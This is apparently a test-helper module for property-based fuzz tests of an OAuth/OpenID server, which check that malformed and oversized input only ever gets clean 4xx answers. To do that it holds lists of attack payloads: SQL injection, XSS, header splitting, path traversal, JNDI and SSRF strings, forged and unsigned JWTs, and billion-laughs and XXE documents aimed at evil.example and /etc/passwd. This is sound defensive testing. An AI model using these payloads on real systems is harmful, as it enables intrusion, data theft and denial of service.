import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { expect } from 'vitest';
import { DEFAULT_SETTINGS } from '../../src/records/realm-settings.js';
import { ADMIN_TOKEN, NO_RATE_LIMITS, type TestApp, startTestApp } from './app.js';
import { REDIRECT_URI } from './flow.js';
import { type ServiceClient, basic, clientCredentials, realmPath } from './oauth.js';
import { type TestUser, createUser } from './users.js';

/**
 * Hostile input (issue 8): property-based tests that send malformed and oversized input to
 * every endpoint, page and admin route, and check that each answer is a 4xx in the contract's
 * shape (never a 5xx), that nothing internal or secret is in it, and that the process is still
 * healthy after each property.
 *
 * Every property runs with one fixed seed, so CI sends the same inputs on every run and a
 * failure reproduces as it was reported (fast-check prints the seed, the path and the
 * counterexample); `HOSTILE_SEED=<n>` explores other inputs locally. The budgets are runs per
 * property: one property per endpoint (per grant at the token endpoint), per page route and
 * method, per admin route and method, per place that takes a JWT, and per kind of raw request.
 * With them the five files took 48 s on PGlite and 37 s on PostgreSQL (two workers on a
 * two-core machine that was busy with other work as well).
 */
export const HOSTILE_SEED = process.env.HOSTILE_SEED ? Number(process.env.HOSTILE_SEED) : 20_260_808;

export const BUDGET = {
  /** An OAuth endpoint, or one grant at the token endpoint: form bodies, content types, client authentication. */
  endpoint: 30,
  /** A page route and method: queries, forms, cookies. */
  page: 25,
  /** An admin route and method: path parameters, JSON bodies, the admin token. */
  admin: 15,
  /** A place that takes a JWT: garbage and `alg: none` JWTs. */
  jwt: 20,
  /** XML bombs and malformed XML as SAML 2.0 assertions. */
  xml: 20,
  /** Raw requests on a listening server, per kind (request line, headers, bodies). */
  raw: 12,
} as const;


export const FORM = 'application/x-www-form-urlencoded';

/** The endpoints below an issuer that answer JSON (CONTRACT.md §3); every other route there is a page. */
export const OAUTH_ENDPOINTS: readonly string[] = [
  '/.well-known/openid-configuration',
  '/connect/jwk_uri',
  '/connect/register',
  '/connect/register/:client_id',
  '/access_token',
  '/introspect',
  '/token/revoke',
  '/userinfo',
  '/par',
  '/device/code',
  '/bc-authorize',
];
export const POST_LOGOUT_URI = 'https://app.example/signed-out';
export const GRANTS = {
  authorizationCode: 'authorization_code',
  refreshToken: 'refresh_token',
  clientCredentials: 'client_credentials',
  password: 'password',
  deviceCode: 'urn:ietf:params:oauth:grant-type:device_code',
  ciba: 'urn:openid:params:grant-type:ciba',
  tokenExchange: 'urn:ietf:params:oauth:grant-type:token-exchange',
  saml2Bearer: 'urn:ietf:params:oauth:grant-type:saml2-bearer',
  jwtBearer: 'urn:ietf:params:oauth:grant-type:jwt-bearer',
} as const;

// ---------------------------------------------------------------------------------------------
// The application under attack

export interface HostileFixture {
  t: TestApp;
  app: FastifyInstance;
  realm: string;
  /** The realm's path below BASE_URL, e.g. `/oauth2/hostile`. */
  path: string;
  issuer: string;
  /** A confidential client (client_secret_basic) that lists every grant type. */
  service: ServiceClient;
  /** A public client of the code and device flows. */
  publicClientId: string;
  user: TestUser;
  /** What no answer may ever contain (the admin token, the client's secret, the user's password). */
  secrets: string[];
}

/**
 * The application on a fresh store, with a realm whose rate limits are off, a confidential
 * client of every grant, a public client and a person.
 */
export async function startHostileApp(options: { listen?: boolean; realm?: string } = {}): Promise<HostileFixture> {
  const t = await startTestApp(options.listen ? { listen: true } : {});
  const realm = options.realm ?? 'hostile';
  await t.admin.createRealm(realm, { ...NO_RATE_LIMITS });
  await t.admin.putScope(realm, 'api');
  const service = await t.admin.serviceClient(realm, '', {
    grant_types: Object.values(GRANTS),
    redirect_uris: [REDIRECT_URI],
    post_logout_redirect_uris: [POST_LOGOUT_URI],
    scope: 'openid profile email api',
  });
  const publicClient = await t.admin.createClient(realm, {
    client_type: 'public',
    redirect_uris: [REDIRECT_URI],
    post_logout_redirect_uris: [POST_LOGOUT_URI],
    grant_types: ['authorization_code', 'refresh_token', GRANTS.deviceCode],
    scope: 'openid profile email',
  });
  const user = await createUser(t.admin, realm, 'alice', { claims: { email: 'alice@example.test', name: 'Alice' } });
  return {
    t,
    app: t.app,
    realm,
    path: realmPath(realm),
    issuer: `${t.baseUrl}${realmPath(realm)}`,
    service,
    publicClientId: publicClient.client_id,
    user,
    secrets: [ADMIN_TOKEN, service.secret, user.password],
  };
}

const PROTOTYPE_NAMES = new Set(Object.getOwnPropertyNames(Object.prototype));

/** The process is alive and still serves a normal request. */
export async function expectHealthy(fixture: HostileFixture): Promise<void> {
  // No input reached Object.prototype (`__proto__` keys in forms, queries and JSON).
  expect(Object.getOwnPropertyNames(Object.prototype).filter((name) => !PROTOTYPE_NAMES.has(name))).toEqual([]);
  const health = await fixture.app.inject({ method: 'GET', url: '/healthz' });
  expect(health.statusCode, 'GET /healthz').toBe(200);
  const token = await clientCredentials(fixture.app, fixture.realm, fixture.service);
  expect(token.statusCode, `client credentials after the property: ${token.body}`).toBe(200);
}

/**
 * Runs one property with the fixed seed and its budget, then checks that the process is still
 * healthy. `check` returns the status it saw: a property none of whose inputs was refused would
 * prove nothing, so at least one refusal (4xx) is required, unless the route ignores its input
 * (`refusals: false`).
 */
export async function hostileProperty<T>(
  fixture: HostileFixture,
  numRuns: number,
  arbitrary: fc.Arbitrary<T>,
  check: (input: T) => Promise<number>,
  options: { refusals?: boolean } = {},
): Promise<void> {
  const statuses: number[] = [];
  const seen: string[] = [];
  await fc.assert(
    fc.asyncProperty(arbitrary, async (input) => {
      statuses.push(await check(input));
      seen.push(lastAnswer);
    }),
    { seed: HOSTILE_SEED, numRuns },
  );
  if (process.env.HOSTILE_DEBUG) console.log(`${expect.getState().currentTestName}: ${JSON.stringify(tally(seen))}`);
  if (options.refusals !== false) expect(statuses.some((status) => status >= 400 && status < 500), `statuses seen: ${statuses.join(' ')}`).toBe(true);
  await expectHealthy(fixture);
}

export interface HostileRequest {
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  url: string;
  headers?: Record<string, string | undefined>;
  body?: string | Buffer;
  /** The client's address: sign-in limits count failures per address, as an attacker rotating addresses would meet them. */
  remoteAddress?: string;
}

export function send(app: FastifyInstance, request: HostileRequest): Promise<LightMyRequestResponse> {
  const headers = Object.fromEntries(Object.entries(request.headers ?? {}).filter((entry): entry is [string, string] => entry[1] !== undefined));
  return app.inject({
    method: request.method,
    url: request.url,
    headers,
    ...(request.body === undefined ? {} : { payload: request.body }),
    ...(request.remoteAddress === undefined ? {} : { remoteAddress: request.remoteAddress }),
  });
}

const tally = (labels: readonly string[]): Record<string, number> =>
  labels.reduce<Record<string, number>>((counts, label) => ({ ...counts, [label]: (counts[label] ?? 0) + 1 }), {});

/** The last answer checked, as `status error`: HOSTILE_DEBUG=1 prints what each property's inputs got. */
let lastAnswer = '';

export interface Route {
  /** As registered, e.g. `/admin/realms/:realm/clients/:client_id`. */
  path: string;
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
}

/**
 * Every route of the application below `prefix` (HEAD routes left out), read from Fastify's own
 * tree: a route added later is attacked without anyone listing it.
 */
export function registeredRoutes(app: FastifyInstance, prefix: string): Route[] {
  const routes: Route[] = [];
  const parents: string[] = [];
  for (const line of app.printRoutes({ commonPrefix: false }).split('\n')) {
    const match = /^([│├└─\s]*?)([^│├└─\s].*?)(?: \(([^)]*)\))?$/.exec(line);
    if (!match) continue;
    const depth = match[1]!.length / 4;
    const path = `${parents[depth - 1] ?? ''}${match[2]}`;
    parents[depth] = path;
    for (const method of (match[3] ?? '').split(', ')) {
      if (path.startsWith(prefix) && ['GET', 'POST', 'PUT', 'PATCH', 'DELETE'].includes(method)) routes.push({ path, method: method as Route['method'] });
    }
  }
  return routes;
}

// ---------------------------------------------------------------------------------------------
// What every answer must be

export type AnswerKind = 'oauth' | 'admin' | 'page' | 'asset';

export interface Expected {
  kind: AnswerKind;
  /** Answers other than a 4xx that the route gives to input it may ignore (revocation's 200, a page's redirect). */
  allow?: readonly number[];
}

/** Text that would tell an attacker about the inside: stack frames, source paths, SQL and framework errors. */
const INTERNAL_DETAIL: readonly RegExp[] = [
  /\n\s+at .+[(:]/,
  /node_modules/,
  /\/src\/[\w/.-]+\.[jt]s/,
  /\bFST_[A-Z_]+\b/,
  /\b(?:TypeError|RangeError|ReferenceError|SyntaxError|AggregateError)\b/,
  /syntax error at or near/,
  /violates (?:unique|foreign key|not-null|check) constraint/,
  /duplicate key value/,
  /invalid byte sequence for encoding/,
  /index row size/,
  /stack depth limit/,
  /\bECONN[A-Z]+\b/,
  /-----BEGIN [A-Z ]*PRIVATE KEY-----/,
];

/** The markers of the injection strings below: a page that shows one raw would run it. */
const MARKUP_INJECTED: readonly RegExp[] = [/<script>alert/i, /<img src=x onerror/i, /<svg\/onload/i, /<iframe src=/i];

const describe = (response: LightMyRequestResponse): string =>
  `${response.statusCode} ${String(response.headers['content-type'])} ${response.body.slice(0, 300)}`;

/** Checks one answer; returns its status. */
export function expectAnswer(fixture: HostileFixture, response: LightMyRequestResponse, expected: Expected): number {
  const status = response.statusCode;
  const error = /"error":"([a-z_]+)"(?:,"error_description":"(.{0,40}))?/.exec(response.body);
  lastAnswer = `${status} ${error ? `${error[1]} ${error[2] ?? ''}` : (/<title>([^<·]*)/.exec(response.body)?.[1]?.trim() ?? '')}`;
  expect(status, describe(response)).toBeLessThan(500);
  expectNothingInternal(fixture, response, expected.kind);
  if (status >= 400) {
    // The scripts the pages load live among the pages: their refusals are pages too.
    if (expected.kind === 'page' || expected.kind === 'asset') expectErrorPage(response);
    else expectJsonError(response);
  } else {
    expect(expected.allow ?? [], `an answer other than a refusal: ${describe(response)}`).toContain(status);
    if (expected.kind === 'page' && status >= 300) expectSafeRedirect(fixture, response);
    if (expected.kind === 'page' && status < 300) expectPage(response);
  }
  return status;
}

/** RFC 6749 §5.2 and CONTRACT.md §3, §5: `{error, error_description?}`, JSON, `no-store`. */
export function expectJsonError(response: LightMyRequestResponse): void {
  expect(response.headers['content-type'], describe(response)).toMatch(/^application\/json/);
  expect(response.headers['cache-control'], describe(response)).toMatch(/no-store/);
  const body = response.json() as Record<string, unknown>;
  expect(Object.keys(body).filter((key) => key !== 'error' && key !== 'error_description'), describe(response)).toEqual([]);
  expect(body.error, describe(response)).toMatch(/^[a-z_]+$/);
  if (body.error_description !== undefined) {
    expect(typeof body.error_description).toBe('string');
    const text = body.error_description as string;
    // Written for the client: printable, and short (it does not echo what was sent).
    expect(text.length, describe(response)).toBeLessThanOrEqual(1000);
    expect(text, describe(response)).not.toMatch(/[\x00-\x1f\x7f]/);
  }
}

/** CONTRACT.md §4: errors for the person are an HTML page. */
function expectErrorPage(response: LightMyRequestResponse): void {
  expectPage(response);
  expect(response.body, describe(response)).toMatch(/class="error"/);
}

function expectPage(response: LightMyRequestResponse): void {
  expect(response.headers['content-type'], describe(response)).toMatch(/^text\/html/);
  expect(response.body.startsWith('<!doctype html>'), describe(response)).toBe(true);
  expect(response.headers['cache-control'], describe(response)).toMatch(/no-store/);
  expect(response.headers['x-frame-options']).toBe('DENY');
  expect(response.headers['content-security-policy']).toMatch(/default-src 'none'/);
}

/** A redirect goes to this server's realm, or to a URI the client registered: never elsewhere. */
function expectSafeRedirect(fixture: HostileFixture, response: LightMyRequestResponse): void {
  const location = String(response.headers.location);
  const allowed = [`${fixture.t.baseUrl}/oauth2/`, `${REDIRECT_URI}?`, `${POST_LOGOUT_URI}?`];
  const safe = location === POST_LOGOUT_URI || allowed.some((prefix) => location.startsWith(prefix));
  expect(safe, `redirect to ${location}`).toBe(true);
  for (const marker of MARKUP_INJECTED) expect(location).not.toMatch(marker);
}

function expectNothingInternal(fixture: HostileFixture, response: LightMyRequestResponse, kind: AnswerKind): void {
  // A script's own text names errors; what matters of it is that it is served as it is.
  const served = kind === 'asset' && response.statusCode === 200 ? '' : response.body;
  const text = `${JSON.stringify(response.headers)}\n${served}`;
  for (const pattern of INTERNAL_DETAIL) expect(text, describe(response)).not.toMatch(pattern);
  // An admin answer may carry a secret it creates (a client secret, an initial access token), never these.
  for (const secret of fixture.secrets) expect(text.includes(secret), `a secret in ${describe(response)}`).toBe(false);
  if (kind === 'page' || /html/.test(String(response.headers['content-type']))) {
    for (const marker of MARKUP_INJECTED) expect(response.body, describe(response)).not.toMatch(marker);
  }
}

// ---------------------------------------------------------------------------------------------
// Hostile strings

/** What attackers try in any field: SQL, markup, header splitting, traversal, prototype keys, SSRF targets. */
export const INJECTIONS: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE clients; --",
  '" OR 1=1 --',
  "1' UNION SELECT secret_hash FROM clients --",
  "'; SELECT pg_sleep(5); --",
  '\\',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<iframe src=javascript:alert(1)>',
  'javascript:alert(1)',
  'a\r\nSet-Cookie: injected=1',
  'x\r\nLocation: https://evil.example/\r\n\r\n',
  '%0d%0aSet-Cookie:%20injected=1',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '/etc/passwd\u0000.png',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  '{"__proto__":{"admin":true}}',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  'https://evil.example/callback',
  '//evil.example',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  '\u202egnp.exe',
  '\ufeff',
  '\u0000',
];

/** Control characters, separators and lone surrogates (which no UTF-8 encoder writes as they are). */
const oddCharacter = fc.constantFrom('\u0000', '\r', '\n', '\t', '\u0007', '\u007f', '\u0085', '\u2028', '\ufeff', '\ufffd', '\ud800', '\udfff', '%', '&', '=', '+', '"');

/** A value much larger than any real one: around the body limits and the per-parameter one. */
const hugeText: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(2_100, 9_000, 17_000, 40_000, 66_000), fc.constantFrom('A', 'é', '%', '<', '\u0000', '𝒳'))
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

const nested = (depth: number, open: string, close: string, inner = 'x'): string => `${open.repeat(depth)}${inner}${close.repeat(depth)}`;

/** JSON nested deeper than any parser or schema should walk, for parameters that carry JSON (a passkey's response). */
const deepJsonText: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(1_000, 20_000), fc.constantFrom(['[', ']'], ['{"response":', '}'], ['{"id":"x","response":', '}']))
  .map(([depth, [open, close]]) => nested(depth, open!, close!, '1'));

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 6, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary-ascii', minLength: 1, maxLength: 40 }) },
  { weight: 4, arbitrary: fc.string({ unit: oddCharacter, minLength: 1, maxLength: 12 }) },
  { weight: 1, arbitrary: hugeText },
  { weight: 1, arbitrary: deepJsonText },
);

// ---------------------------------------------------------------------------------------------
// Form bodies and query strings, written byte by byte

/** How a pair is written: percent-encoded UTF-8, raw bytes, Latin-1 bytes (invalid UTF-8), or with a broken escape. */
type PairStyle = 'encoded' | 'raw' | 'latin1' | 'bad-escape';

export interface FormPair {
  name: string;
  value: string;
  style: PairStyle;
}

/** Percent escapes that decode to no text: invalid UTF-8, surrogates, overlong forms, truncated escapes. */
const BAD_ESCAPES = ['%FF', '%C3', '%C0%AF', '%ED%A0%80', '%F8%88%80%80%80', '%E2%82', '%', '%2', '%G0', '%%', '%u0041', '%00'];

const percentEncode = (text: string): string =>
  [...Buffer.from(text, 'utf8')].map((byte) => (/[A-Za-z0-9\-._~]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`)).join('');

function pairBytes({ name, value, style }: FormPair, index: number): Buffer {
  switch (style) {
    case 'encoded':
      return Buffer.from(`${percentEncode(name)}=${percentEncode(value)}`, 'latin1');
    case 'raw':
      return Buffer.from(`${name}=${value}`, 'utf8');
    case 'latin1':
      return Buffer.concat([Buffer.from(`${percentEncode(name)}=`, 'latin1'), Buffer.from(value, 'latin1')]);
    case 'bad-escape':
      return Buffer.from(`${percentEncode(name)}=${percentEncode(value)}${BAD_ESCAPES[index % BAD_ESCAPES.length]}`, 'latin1');
  }
}

export function formBytes(pairs: readonly FormPair[]): Buffer {
  return Buffer.concat(pairs.flatMap((pair, index) => (index === 0 ? [pairBytes(pair, index)] : [Buffer.from('&'), pairBytes(pair, index)])));
}

/** The pairs as a query string that `inject` can carry (ASCII: raw bytes go through a real socket). */
export function queryString(pairs: readonly FormPair[]): string {
  return pairs
    .map((pair, index) =>
      pair.style === 'bad-escape'
        ? `${percentEncode(pair.name)}=${percentEncode(pair.value)}${BAD_ESCAPES[index % BAD_ESCAPES.length]}`
        : `${percentEncode(pair.name)}=${percentEncode(pair.value)}`,
    )
    .join('&');
}

export const encoded = (form: Record<string, string>): FormPair[] =>
  Object.entries(form).map(([name, value]) => ({ name, value, style: 'encoded' }));

/** Names that are not parameters: prototype keys, brackets, empty, huge. */
const hostileName = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__proto__[admin]', 'a[b]', '[]', '', ' ', 'grant_type[]'),
  hostileText,
);

const pairStyle = fc.oneof(
  { weight: 5, arbitrary: fc.constant<PairStyle>('encoded') },
  { weight: 1, arbitrary: fc.constant<PairStyle>('raw') },
  { weight: 1, arbitrary: fc.constant<PairStyle>('latin1') },
  { weight: 2, arbitrary: fc.constant<PairStyle>('bad-escape') },
);

/**
 * A hostile pair: mostly a parameter the route reads (so that its checks run), sometimes one
 * of `others` (client authentication's), sometimes a name no route reads.
 */
function hostilePair(names: readonly string[], others: readonly string[] = []): fc.Arbitrary<FormPair> {
  const choices = [
    ...(names.length > 0 ? [{ weight: 6, arbitrary: fc.constantFrom(...names) }] : []),
    ...(others.length > 0 ? [{ weight: 1, arbitrary: fc.constantFrom(...others) }] : []),
    { weight: 1, arbitrary: hostileName },
  ];
  return fc.record({ name: fc.oneof(...choices), value: hostileText, style: pairStyle });
}

/** Thousands of parameters in one body: under the body limit, over any parameter count. */
const manyPairs: fc.Arbitrary<FormPair[]> = fc
  .constantFrom(1_000, 5_000)
  .map((count) => Array.from({ length: count }, (_, index) => ({ name: `p${index}`, value: '1', style: 'encoded' as const })));

/**
 * The pairs of a hostile form: the route's required ones first (each may be given again, so
 * repeated), then hostile ones; or a flood of parameters.
 */
export function hostilePairs(names: readonly string[], base: readonly FormPair[] = [], others: readonly string[] = []): fc.Arbitrary<FormPair[]> {
  return fc.oneof(
    { weight: 12, arbitrary: fc.array(hostilePair(names, others), { minLength: 1, maxLength: 4 }).map((pairs) => [...base, ...pairs]) },
    { weight: 1, arbitrary: manyPairs.map((pairs) => [...base, ...pairs]) },
  );
}

/**
 * A hostile form for a route that reads `names`: each of them absent, hostile, plausible (from
 * `plausible`, so that the checks behind it run) or repeated; then a few pairs of `others` or of
 * names no route reads. Or a flood of parameters.
 */
export function hostileForm(
  names: readonly string[],
  options: { base?: readonly FormPair[]; others?: readonly string[]; plausible?: Readonly<Record<string, string>> } = {},
): fc.Arbitrary<FormPair[]> {
  const base = options.base ?? [];
  // About two hostile values a form, however many parameters the route reads.
  const hostileWeight = Math.max(1, Math.round(24 / names.length));
  const perName = names.map((name) => {
    const plausible = options.plausible?.[name];
    return fc.oneof(
      { weight: 3, arbitrary: fc.constant<FormPair[]>([]) },
      { weight: hostileWeight, arbitrary: fc.record({ value: hostileText, style: pairStyle }).map(({ value, style }): FormPair[] => [{ name, value, style }]) },
      { weight: plausible === undefined ? 1 : 4, arbitrary: fc.constant<FormPair[]>(plausible === undefined ? [] : [{ name, value: plausible, style: 'encoded' }]) },
      { weight: 1, arbitrary: fc.tuple(hostileText, pairStyle).map(([value, style]): FormPair[] => [{ name, value: plausible ?? 'x', style: 'encoded' }, { name, value, style }]) },
    );
  });
  const extras = fc.array(hostilePair([], options.others ?? []), { maxLength: 2 });
  return fc.oneof(
    { weight: 15, arbitrary: fc.tuple(fc.tuple(...perName), extras).map(([parts, extra]) => [...base, ...parts.flat(), ...extra]) },
    { weight: 1, arbitrary: manyPairs.map((pairs) => [...base, ...pairs]) },
  );
}

/** Content types a form endpoint does not take, and broken spellings of the one it does. */
const wrongContentType = fc.constantFrom(
  'application/json',
  'text/plain',
  'application/xml',
  'text/xml',
  'multipart/form-data; boundary=----x',
  'application/octet-stream',
  'application/jwt',
  'text/html',
  '*/*',
  'application/x-www-form-urlencoded; charset=utf-16',
  'application/x-www-form-urlencoded; charset=iso-8859-1',
  'application/x-www-form-urlencoded;;;=',
  'APPLICATION/X-WWW-FORM-URLENCODED',
  'application/x-www-form-urlencodedx',
  'application/x-www-form-urlencoded, application/json',
  'x'.repeat(2_000),
);

/** Mostly the right content type (so that the body is read), sometimes a wrong one or none. */
export const formContentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 12, arbitrary: fc.constant(FORM) },
  { weight: 2, arbitrary: wrongContentType },
  { weight: 1, arbitrary: fc.constant(undefined) },
);

// ---------------------------------------------------------------------------------------------
// Authorization headers

const b64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');

/** Lone surrogates replaced, as any encoder of text would: for values that must be percent-encoded first. */
const wellFormed = (text: string): string => text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');

/** A header value as HTTP can carry it (Latin-1, no CR, LF or NUL: raw sockets test those). */
const headerSafe = (value: string): string => value.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?');

const malformedBasic: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'Basic',
    'Basic ',
    'Basic =',
    'Basic ====',
    'Basic !!!!',
    'Basic a',
    `Basic ${b64('no-colon')}`,
    `Basic ${b64(':secret')}`,
    `Basic ${b64('id:')}`,
    `Basic ${b64('%zz:%zz')}`,
    `Basic ${b64('%:%')}`,
    `Basic ${b64('%E0%A4%A:x')}`,
    `Basic ${b64('a%00b:c%00d')}`,
    `Basic ${b64(Buffer.from([0xff, 0xfe, 0x3a, 0xc0, 0xaf]))}`,
    `Basic ${b64('id:secret')} trailing`,
    `Basic ${b64('id:secret')}====`,
    `Basic\t${b64('id:secret')}`,
    `BASIC ${b64('id:secret')}`,
    `Basic ${'A'.repeat(12_000)}`,
    `Basic ${b64(`${'a'.repeat(6_000)}:${'b'.repeat(2_000)}`)}`,
    `Basic ${b64('__proto__:__proto__')}`,
  ),
  fc.tuple(hostileText, hostileText).map(([id, secret]) => `Basic ${b64(`${id}:${secret}`)}`),
  fc.tuple(hostileText, hostileText).map(([id, secret]) => basic(wellFormed(id), wellFormed(secret))),
);

export const malformedBearer: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('Bearer', 'Bearer ', 'Bearer  ', 'Bearer a b', 'Bearer ====', 'Bearer ,', 'bearer x', 'Bearer\tx', 'Bearer "x"', 'Bearer x, Bearer y', `Bearer ${'A'.repeat(12_000)}`),
  hostileText.map((text) => `Bearer ${headerSafe(text)}`),
);

const otherScheme = fc.oneof(
  fc.constantFrom('Digest username="x"', 'Negotiate YII=', 'DPoP x', 'Token x', 'x', ''),
  hostileText.map(headerSafe),
);

export const hostileAuthorization: fc.Arbitrary<string> = fc.oneof(malformedBasic, malformedBearer, otherScheme);

// ---------------------------------------------------------------------------------------------
// JWTs

export const base64url = (data: string | Buffer): string => Buffer.from(data).toString('base64url');

/** A JWS compact serialization with whatever header, claims and signature it is given. */
export function compactJwt(header: unknown, claims: unknown, signature = ''): string {
  return `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(claims))}.${signature}`;
}

/**
 * Garbage and unsigned JWTs. `claims` are claims that every other check would accept (issuer,
 * audience, subject, lifetime), so that only the signature stands between them and success.
 */
export function hostileJwt(claims: () => Record<string, unknown>): fc.Arbitrary<string> {
  const unsigned = fc
    .tuple(fc.constantFrom('none', 'None', 'NONE', 'nOnE', 'none '), fc.constantFrom('', 'AAAA', 'e30', '.'), fc.constantFrom('JWT', 'at+jwt', 'JWT '))
    .map(([alg, signature, typ]) => compactJwt({ alg, typ }, claims(), signature));
  const forgedHeader = fc
    .record({
      alg: fc.constantFrom('HS256', 'HS512', 'RS256', 'ES256', 'PS256', 'EdDSA', 'RSA-OAEP', 'dir', '', 'ES256K'),
      kid: fc.option(fc.oneof(hostileText, fc.constantFrom('../../../../dev/null', "' OR 1=1 --", ''))),
      jku: fc.option(fc.constantFrom('https://evil.example/jwks', 'http://169.254.169.254/', 'file:///etc/passwd')),
      jwk: fc.option(fc.constant({ kty: 'oct', k: 'c2VjcmV0' })),
      crit: fc.option(fc.constantFrom(['exp'], ['b64'], [], 'x')),
      b64: fc.option(fc.constant(false)),
    })
    .chain((header) =>
      fc.constantFrom('', 'c2lnbmF0dXJl', base64url(Buffer.alloc(64)), base64url(Buffer.alloc(256, 1))).map((signature) =>
        compactJwt(Object.fromEntries(Object.entries(header).filter(([, value]) => value !== null)), claims(), signature),
      ),
    );
  const segment = fc.oneof(
    fc.constantFrom('', 'e30', 'bnVsbA', 'W10', 'MQ', 'Ingi', 'eyJhbGciOiJub25lIn0', 'eyJhbGciOg', '!!!', '====', 'e30=', 'eyJhbGciOiJub25lIn0 '),
    fc.string({ unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'), maxLength: 60 }),
    hostileText.map((text) => base64url(text)),
  );
  const garbage = fc.array(segment, { minLength: 1, maxLength: 6 }).map((parts) => parts.join('.'));
  const oddClaims = fc
    .oneof(
      fc.constant<unknown>(null),
      fc.constant<unknown>([]),
      fc.constant<unknown>('text'),
      fc.constant<unknown>(42),
      fc.record({ iss: fc.anything(), sub: fc.anything(), aud: fc.anything(), exp: fc.anything(), jti: fc.anything() }),
      fc.constant<unknown>({ ...claims(), exp: 1e308, nbf: -1e308, iat: 'now' }),
      fc.constant<unknown>({ ...claims(), sub: { __proto__: { admin: true } } }),
    )
    .chain((payload) => fc.constantFrom('none', 'RS256').map((alg) => compactJwt({ alg }, payload)));
  const huge = fc.constantFrom(10_000, 40_000, 70_000).map((length) => `eyJhbGciOiJub25lIn0.${'A'.repeat(length)}.`);
  // Claims nested deeper than any walk should go: `act` nests by design (RFC 8693 §4.1).
  const deep = fc
    .tuple(fc.constantFrom(100, 5_000, 20_000), fc.constantFrom('act', 'sub_id', 'aud', 'cnf'), fc.constantFrom('none', 'ES256'))
    .map(([depth, claim, alg]) => {
      const { [claim]: _replaced, ...rest } = claims();
      const payload = `{${JSON.stringify(rest).slice(1, -1)},"${claim}":${'{"act":'.repeat(depth)}{"sub":"x"}${'}'.repeat(depth)}}`;
      return `${base64url(JSON.stringify({ alg }))}.${base64url(payload)}.${alg === 'none' ? '' : base64url(Buffer.alloc(64))}`;
    });
  return fc.oneof(
    { weight: 3, arbitrary: unsigned },
    { weight: 2, arbitrary: forgedHeader },
    { weight: 3, arbitrary: garbage },
    { weight: 2, arbitrary: oddClaims },
    { weight: 1, arbitrary: huge },
    { weight: 1, arbitrary: deep },
  );
}

// ---------------------------------------------------------------------------------------------
// XML

const SAML_NS = 'urn:oasis:names:tc:SAML:2.0:assertion';

const assertionAround = (inner: string): string =>
  `<saml:Assertion xmlns:saml="${SAML_NS}" ID="_a" Version="2.0" IssueInstant="2030-01-01T00:00:00Z"><saml:Issuer>https://idp.example.test/saml</saml:Issuer>${inner}</saml:Assertion>`;

function billionLaughs(levels: number): string {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let level = 1; level < levels; level++) entities.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE saml:Assertion [${entities.join('')}]>${assertionAround(`<saml:Subject><saml:NameID>&lol${levels - 1};</saml:NameID></saml:Subject>`)}`;
}


/** Documents that attack a parser (entity expansion, external entities, depth, width) or are not XML at all. */
export const hostileXml: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(3, 10).map(billionLaughs),
  fc.constantFrom('file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/', 'file:///dev/random', 'expect://id').map(
    (target) => `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "${target}">]>${assertionAround('<saml:Subject><saml:NameID>&xxe;</saml:NameID></saml:Subject>')}`,
  ),
  fc.constant(`<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${assertionAround('')}`),
  fc.constant(`<!doctype a SYSTEM "http://evil.example/a.dtd">${assertionAround('')}`),
  fc.constant(`<?xml version="1.0"?>\n<!-- x --><!DOCTYPE a>${assertionAround('')}`),
  fc.constantFrom(40, 1_000, 20_000).map((depth) => assertionAround(nested(depth, '<saml:Advice>', '</saml:Advice>'))),
  fc.constantFrom(5_000, 30_000).map((depth) => nested(depth, '<a>', '</a>')),
  fc.constantFrom(1_000, 8_000).map((count) => assertionAround('<saml:Attribute/>'.repeat(count))),
  fc.constantFrom(2_000, 40_000).map((length) => assertionAround(`<saml:Subject><saml:NameID Format="${'x'.repeat(length)}">alice</saml:NameID></saml:Subject>`)),
  fc.constantFrom(200, 3_000).map((count) => `<saml:Assertion ${Array.from({ length: count }, (_, i) => `xmlns:n${i}="urn:x:${i}"`).join(' ')} xmlns:saml="${SAML_NS}"/>`),
  fc.constant(assertionAround('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')),
